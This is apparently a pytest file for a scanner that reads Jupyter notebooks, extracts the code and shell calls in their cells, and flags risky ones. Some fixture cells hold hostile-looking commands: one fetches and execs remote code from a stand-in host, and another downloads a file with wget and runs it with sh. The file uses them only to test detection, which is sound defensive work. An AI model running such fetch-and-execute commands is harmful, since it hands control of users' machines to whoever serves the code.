"""Notebooks: their cells as code, where they stand."""

import json
from typing import Any

import pytest

from tests.vetting.domain.signals.code.judging import BY_ID
from tests.vetting.domain.signals.looking import found, side
from vetting.domain.code.facts import CodeFacts, Language, When
from vetting.domain.code.notebooks import cells, reading
from vetting.domain.code.reading import facts_of
from vetting.domain.signals.capabilities import capabilities_in
from vetting.domain.signals.code import unread

FROM = "https://x.example.test/a"


def cell(source: str | list[str], kind: str = "code") -> dict[str, Any]:
    """Make a cell, with an output that is no code."""
    return {"cell_type": kind, "outputs": [{"text": ["import os; os.system('output')"]}], "source": source}


def notebook(*sources: str | list[str], indent: int | None = 1, metadata: dict[str, object] | None = None) -> bytes:
    """Make a notebook of cells of code."""
    document = {"cells": [cell(source) for source in sources], "metadata": metadata or {}, "nbformat": 4}
    return json.dumps(document, indent=indent).encode()


def facts(data: bytes) -> CodeFacts:
    """Read a notebook that is one."""
    read = facts_of("work/demo.ipynb", data)
    assert read is not None
    return read


def calls(data: bytes) -> list[str]:
    """List the names of what a notebook calls."""
    return [call.name for call in facts(data).calls]


@pytest.mark.parametrize("indent", [None, 1])
def test_a_call_stands_where_its_text_stands(indent: int | None) -> None:
    """In the lines and columns of the file, behind escapes too; and it runs only when somebody runs the notebook."""
    data = notebook(["import os\n", "\n"], ["x = '\u00e9\\t\U0001f40d\"'; os.", "system('one')\n"], indent=indent)
    (call,) = [one for one in facts(data).calls if one.name == "os.system"]
    lines = data.decode().split("\n")
    assert lines[call.place.line - 1][call.place.column - 1 :].startswith('os."')
    assert call.when is When.CALLED


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import os\nos.system('a')", ["os.system"]),
        ("!curl x\nf()", ["f", "$ curl"]),
        ("x = !a \\\n  b\nf(x)", ["f", "$ a"]),
        ("%system a\n%time f()\n%timeit -n 3 g()\n%matplotlib inline\nhelp?\n?help\n!!b", ["f", "g", "$ a", "$ b"]),
        ("if x:\n    !a\nf()", ["f", "$ a"]),
        ("%run x.py\n", ["$ python"]),
        ("%%bash\na | b", ["$ b"]),
        ("%%script bash\na", ["$ a"]),
        ("%%script", []),
        ("%%cmd\nset x=a\n%x% b", ["$ set", "$ a"]),
        ("%%javascript\nf()", ["f"]),
        ("%%time\nf()", ["f"]),
        ("%%html\nf()", []),
        ("# coding: rot13\nf()", ["f"]),
        ("f()\n)\n%1", ["f"]),
        ("x = (7\n% f())", ["f"]),
        ("f('\\ud83d')\n", ["f"]),
        ("x = {" + "{}," * 10_001 + "}; f()", ["f"]),
        ("", []),
        ([], []),
    ],
)
def test_a_cell_is_python_or_says_what_else(source: str, expected: list[str]) -> None:
    """What is said to a shell is read as one does, and what only the notebook understands is left out."""
    assert calls(notebook(source)) == expected


def test_what_one_cell_begins_another_goes_on_with() -> None:
    """Names and files are followed from cell to cell, in each language; a cell that is broken stays alone."""
    data = notebook("import os as o", "!wget -O q x.example.test", "o.system('a')", "!sh q", "f()\n)", "g()")
    assert calls(data) == ["os.system", "g", "$ wget", "$ sh", "f"]
    assert [one.severity.value for one in found(BY_ID["C3"], "work/demo.ipynb", data)] == ["high"]


@pytest.mark.parametrize(
    ("metadata", "expected"),
    [
        ({}, ["f"]),
        ({"kernelspec": {"name": "python3", "language": "python"}}, ["f"]),
        ({"kernelspec": {"name": "my-own"}}, ["f"]),
        ({"kernelspec": {"name": "python3"}, "language_info": {"name": "R"}}, ["f"]),
        ({"language_info": {"name": "bash"}}, ["$ f"]),
        ({"kernelspec": {"name": "deno", "language": "typescript"}}, ["f"]),
        ({"kernelspec": {"name": "ir", "language": "R"}}, None),
    ],
)
def test_a_notebook_says_its_language(metadata: dict[str, object], expected: list[str] | None) -> None:
    """Python, unless all that is said is another; one that is not read here is nobody's to read."""
    read = facts_of("demo.ipynb", notebook("f()", metadata=metadata))
    assert (read and [call.name for call in read.calls]) == expected


def test_cells_that_hold_no_code_are_none() -> None:
    """Unless they are said to be both; and in notebooks of version 3 they lie one level deeper."""
    old = {"worksheets": [{"cells": [{"cell_type": "code", "input": "old()", "language": "python"}, 3, "x"]}]}
    assert calls(json.dumps(old).encode()) == ["old"]
    both = '{"cells": [{"cell_type": "markdown", "cell\\u005ftype": "code", "source": "a()", "source": "\\nb()"}]}'
    assert calls(both.encode()) == ["a", "b"]
    document = {"cells": [cell("a()", "markdown"), cell("b()", "raw"), cell("c()", "odd")], "source": "d()"}
    assert calls(json.dumps(document).encode()) == ["c"]


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (b"", 1),
        (b'{"a": 1}\n\nx', 3),
        (b'{"a": 01}', 1),
        (b'{"a": "\n"}', 1),
        (b'{"a": "\\x"}', 1),
        (b'{"cells": [{"id": "\\uzzzz"}]}', 1),
        (b'{"cells": [{"id": "\\u0041"}]}', None),
        (b'{"a" 1}', 1),
        (b'{"a": 1 "b": 2}', 1),
        (b'{"a": 1,}', 1),
        (b"{1: 2}", 1),
        (b"[1, 2}", 1),
        (b"[:]", 1),
        (b"]", 1),
        (b"[" * 200, 1),
        (b'{"a": [1, -2.5e+3, true, null, {}, []]}\n', None),
        (b"3", None),
    ],
)
def test_what_is_no_json_is_said(data: bytes, line: int | None) -> None:
    """With the line from which it is none: the scan is unfinished then."""
    assert unread(side("demo.ipynb", data)) == (None if line is None else f"it is no JSON from line {line} on")
    assert facts(data).broken == unread(side("demo.ipynb", data))


def test_cells_before_the_end_of_what_is_json_are_read() -> None:
    """A broken notebook hides nothing that stands before; that of another language is said to be broken as well."""
    data = notebook("f()", indent=None)
    assert calls(data[:-5]) == ["f"]
    other = json.dumps({"metadata": {"language_info": {"name": "R"}}}).encode()[:-1]
    assert facts(other).broken is not None


def test_what_of_a_notebook_was_not_read_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    """Magics that nobody here knows, Python that is none, lines for a shell, and what is too large."""
    rough = facts(notebook("%%odd\nf()", "f()\n)", "!a")).rough
    assert rough == (
        f"{reading.ROUGH}; %%odd was not read; not all of it could be parsed; it was read line by line only"
    )
    with monkeypatch.context() as limits:
        limits.setattr(cells, "MAX_CODE", 3)
        long = facts(notebook("a()", "bc", "d()"))
    assert long.broken == "its cells hold more than 3 characters, and not all of them were looked at"
    assert [one.name for one in long.calls] == ["a"]
    monkeypatch.setattr(cells, "MAX_SIGNS", 2)
    assert facts(b"[1, 2]").broken == "only its first 2 texts and signs were looked at"
    monkeypatch.setattr(reading, "MAX_BYTES", 2)
    assert facts(b"{}  ").broken == "only its first 0 MiB were looked at"


def test_a_notebook_that_lies_there_does_nothing() -> None:
    """Its code counts, and what it could do is no capability of the release; among documents it is not."""
    data = notebook(f"import requests\nexec(requests.get('{FROM}').text)")
    assert [one.severity.value for one in found(BY_ID["C3"], "demo.ipynb", data)] == ["high"]
    assert found(BY_ID["C3"], "docs/demo.ipynb", data) == []
    assert capabilities_in(side("demo.ipynb", data)) == {}
    assert facts(data).language is Language.PYTHON


@pytest.mark.parametrize(
    "data",
    [
        b'{"cells": [{"cell_type": "code", "source": "' + b"\\n!a \\\\" * 5_000 + b'"}]}',
        b'{"cells": [{"cell_type": "code", "source": "' + b"(" * 40_000 + b'"}]}',
        b'{"cells": [' + b'{"cell_type": "code", "source": "%%time\\n"},' * 3_000,
        b'{"cells": [{"source": ["' + b'x=1;","' * 6_000 + b'"]}]}',
        b"[" + b'"a",' * 40_000,
        b'"' * 80_000,
    ],
    ids=["magics", "parentheses", "cells", "pieces", "texts", "quotes"],
)
def test_no_notebook_takes_minutes(data: bytes) -> None:
    """However its cells are made."""
    assert cells.notebook_of(data.decode()) is not None
    assert facts(data).rough is not None
